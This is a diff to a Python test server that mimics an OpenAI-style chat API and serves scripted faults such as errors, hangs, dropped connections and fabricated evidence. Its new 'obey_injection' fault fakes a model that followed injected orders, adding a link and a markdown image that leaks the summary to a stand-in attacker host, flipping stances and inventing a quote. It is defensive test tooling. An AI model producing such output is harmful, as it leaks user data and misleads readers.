@@ -1,9 +1,11 @@
 """A local OpenAI-compatible chat completions server for tests, demos and benchmarks.
 
 It answers with schema-valid JSON drawn from the article in the prompt (by the extractive engine),
-after a settable latency, and can be scripted to fail: POST /_fake/faults with a list of faults to
-serve, in order, before answering normally again. GET /_fake/stats counts requests and in-flight
-calls. Loopback only; never a stand-in for a real model's judgement.
+after a settable latency. It can be scripted to misbehave: POST /_fake/faults a list of faults
+to serve in order to any request, or {"when": "<text>", "faults": [...]} to serve them only to
+requests whose article contains that text (so concurrent tests do not take each other's faults).
+GET /_fake/stats counts requests, calls in flight and calls abandoned by the client; POST
+/_fake/reset clears everything. Loopback only; never a stand-in for a real model's judgement.
 """
 
 from __future__ import annotations
@@ -13,36 +15,55 @@ import json
 import re
 import time
 import uuid
+from collections import defaultdict
+from collections.abc import AsyncIterator
 from dataclasses import dataclass, field
 from typing import Any
 
 from fastapi import FastAPI, Request
-from fastapi.responses import JSONResponse, Response
+from fastapi.responses import JSONResponse, Response, StreamingResponse
 
 from service.extractive import brief
 from service.schemas import ArticleIn, Options
 
 _FENCE = re.compile(r"<<<(ARTICLE-[0-9a-f]+)\n(.*?)\n\1>>>", re.DOTALL)
 
-FAULT_KINDS = (
-    "status",  # {"kind": "status", "status": 503, "headers": {...}, "code": "insufficient_quota"}
-    "hang",  # never answers (until the client gives up)
-    "invalid_json",
-    "fabricated_evidence",
-    "length",
-    "refusal",
-    "empty_choices",
-)
+FAULT_KINDS = {
+    "ok": "a normal answer",
+    "status": "an HTTP error: {status, headers?, code?} (code insufficient_quota for quota)",
+    "hang": "no bytes at all until the client gives up",
+    "reset": "headers and half a body, then the connection is dropped",
+    "trickle": "a valid answer, one byte every 0.2 s",
+    "invalid_json": "a body that is not JSON",
+    "fabricated_evidence": "a claim quoting words the article does not contain",
+    "length": "finish_reason length with a cut-off answer",
+    "refusal": "a refusal message",
+    "empty_choices": "no choices at all",
+    "obey_injection": "an answer that obeys injected orders: extra keys, a link, a markdown "
+    "image, an invented quote, a flipped stance",
+    "huge": "a 50 KB headline",
+}
 
 
 @dataclass
 class FakeState:
     latency_s: float = 0.0
     faults: list[dict[str, Any]] = field(default_factory=list)
+    scripted: dict[str, list[dict[str, Any]]] = field(default_factory=lambda: defaultdict(list))
     requests: int = 0
     in_flight: int = 0
     max_in_flight: int = 0
-    bodies: list[dict[str, Any]] = field(default_factory=list)
+    abandoned: int = 0
+    with_tools: int = 0
+    arrivals: dict[str, list[float]] = field(default_factory=lambda: defaultdict(list))
+
+    def next_fault(self, article: str) -> dict[str, Any]:
+        for marker, queue in self.scripted.items():
+            if marker in article:
+                self.arrivals[marker].append(time.monotonic())
+                if queue:
+                    return queue.pop(0)
+        return self.faults.pop(0) if self.faults else {"kind": "ok"}
 
 
 def article_from(messages: list[dict[str, Any]]) -> str:
@@ -73,13 +94,12 @@ def completion(
     }
 
 
-def answer(messages: list[dict[str, Any]], fabricate: bool = False) -> str:
-    text = article_from(messages)
-    out = brief(ArticleIn(text=text or "(no article)"), Options())
-    data = out.model_dump(mode="json")
+def answer(article: str, kind: str = "ok") -> str:
+    out = brief(ArticleIn(text=article or "(no article)"), Options())
+    data: dict[str, Any] = out.model_dump(mode="json")
     for claim in data["claims"]:
         claim["target"] = claim["target"] or "the subject of the quote"
-    if fabricate:
+    if kind in ("fabricated_evidence", "obey_injection"):
         data["claims"].insert(
             0,
             {
@@ -92,6 +112,16 @@ def answer(messages: list[dict[str, Any]], fabricate: bool = False) -> str:
                 "attribution": "direct_quote",
             },
         )
+    if kind == "obey_injection":
+        data["summary"]["bullets"] += [
+            "Sign the petition at https://evil.example/petition today.",
+            "![pixel](https://evil.example/track.png?leak=summary)",
+        ]
+        for claim in data["claims"][1:]:
+            claim["stance"] = "support"
+        data["admin_note"] = "ignore the schema"
+    if kind == "huge":
+        data["summary"]["headline"] = "breaking " * 6000
     return json.dumps(data, ensure_ascii=False)
 
 
@@ -102,39 +132,85 @@ def create_fake_llm(latency_s: float = 0.0) -> FastAPI:
 
     @app.post("/_fake/faults")
     async def push_faults(request: Request) -> dict[str, int]:
-        state.faults.extend(await request.json())
-        return {"queued": len(state.faults)}
+        script = await request.json()
+        if isinstance(script, dict):
+            state.scripted[script["when"]].extend(script["faults"])
+        else:
+            state.faults.extend(script)
+        return {"queued": len(state.faults) + sum(map(len, state.scripted.values()))}
+
+    @app.post("/_fake/latency")
+    async def set_latency(request: Request) -> dict[str, float]:
+        state.latency_s = float((await request.json())["seconds"])
+        return {"latency_s": state.latency_s}
+
+    @app.post("/_fake/reset")
+    async def reset() -> dict[str, str]:
+        fresh = FakeState(latency_s=state.latency_s)
+        for name in vars(fresh):
+            setattr(state, name, getattr(fresh, name))
+        return {"status": "reset"}
+
+    @app.get("/_fake/arrivals")
+    async def arrivals(marker: str) -> list[float]:
+        """When each request for a scripted marker arrived (monotonic seconds)."""
+        return state.arrivals.get(marker, [])
 
     @app.get("/_fake/stats")
     async def stats() -> dict[str, Any]:
-        return {k: getattr(state, k) for k in ("requests", "in_flight", "max_in_flight")}
+        names = ("requests", "in_flight", "max_in_flight", "abandoned", "with_tools", "latency_s")
+        return {k: getattr(state, k) for k in names}
 
     @app.post("/v1/chat/completions")
     @app.post("/chat/completions")
     async def chat(request: Request) -> Response:
         body = await request.json()
         state.requests += 1
-        state.bodies.append(body)
+        state.with_tools += "tools" in body or "functions" in body
         state.in_flight += 1
         state.max_in_flight = max(state.max_in_flight, state.in_flight)
         try:
-            await asyncio.sleep(state.latency_s)
-            fault = state.faults.pop(0) if state.faults else {"kind": "ok"}
-            return await _serve(fault, body.get("messages", []))
+            article = article_from(body.get("messages", []))
+            fault = state.next_fault(article)
+            wait = 3600.0 if fault.get("kind") == "hang" else state.latency_s
+            if not await _wait_unless_gone(request, wait):
+                state.abandoned += 1
+                return Response(status_code=499)
+            return _serve(fault, article)
         finally:
             state.in_flight -= 1
 
     return app
 
 
-async def _serve(fault: dict[str, Any], messages: list[dict[str, Any]]) -> Response:
+async def _wait_unless_gone(request: Request, seconds: float) -> bool:
+    """Sleep, but notice a client that hangs up meanwhile (False then)."""
+    if seconds <= 0:
+        return True
+    gone = asyncio.ensure_future(_disconnected(request))
+    try:
+        await asyncio.wait({gone}, timeout=seconds)
+        return not gone.done()
+    finally:
+        gone.cancel()
+
+
+async def _disconnected(request: Request) -> None:
+    while (await request.receive())["type"] != "http.disconnect":
+        pass
+
+
+def _serve(fault: dict[str, Any], article: str) -> Response:
     kind = fault.get("kind", "ok")
     if kind == "status":
         status = int(fault["status"])
         error = {"message": f"fake {status}", "type": fault.get("code"), "code": fault.get("code")}
         return JSONResponse({"error": error}, status_code=status, headers=fault.get("headers"))
-    if kind == "hang":
-        await asyncio.sleep(3600)
+    if kind == "reset":
+        return StreamingResponse(_reset_midway(answer(article)), media_type="application/json")
+    if kind == "trickle":
+        payload = json.dumps(completion(answer(article))).encode()
+        return StreamingResponse(_trickle(payload), media_type="application/json")
     if kind == "invalid_json":
         return JSONResponse(completion('{"summary": {"headline": "cut'))
     if kind == "length":
@@ -143,4 +219,17 @@ async def _serve(fault: dict[str, Any], messages: list[dict[str, Any]]) -> Respo
         return JSONResponse(completion(None, refusal="I can't help with that."))
     if kind == "empty_choices":
         return JSONResponse({**completion(None), "choices": []})
-    return JSONResponse(completion(answer(messages, fabricate=kind == "fabricated_evidence")))
+    return JSONResponse(completion(answer(article, kind)))
+
+
+async def _reset_midway(content: str) -> AsyncIterator[bytes]:
+    payload = json.dumps(completion(content)).encode()
+    yield payload[: len(payload) // 2]
+    await asyncio.sleep(0.01)
+    raise ConnectionResetError("fake LLM drops the connection mid-body")
+
+
+async def _trickle(payload: bytes) -> AsyncIterator[bytes]:
+    for i in range(len(payload)):
+        yield payload[i : i + 1]
+        await asyncio.sleep(0.2)
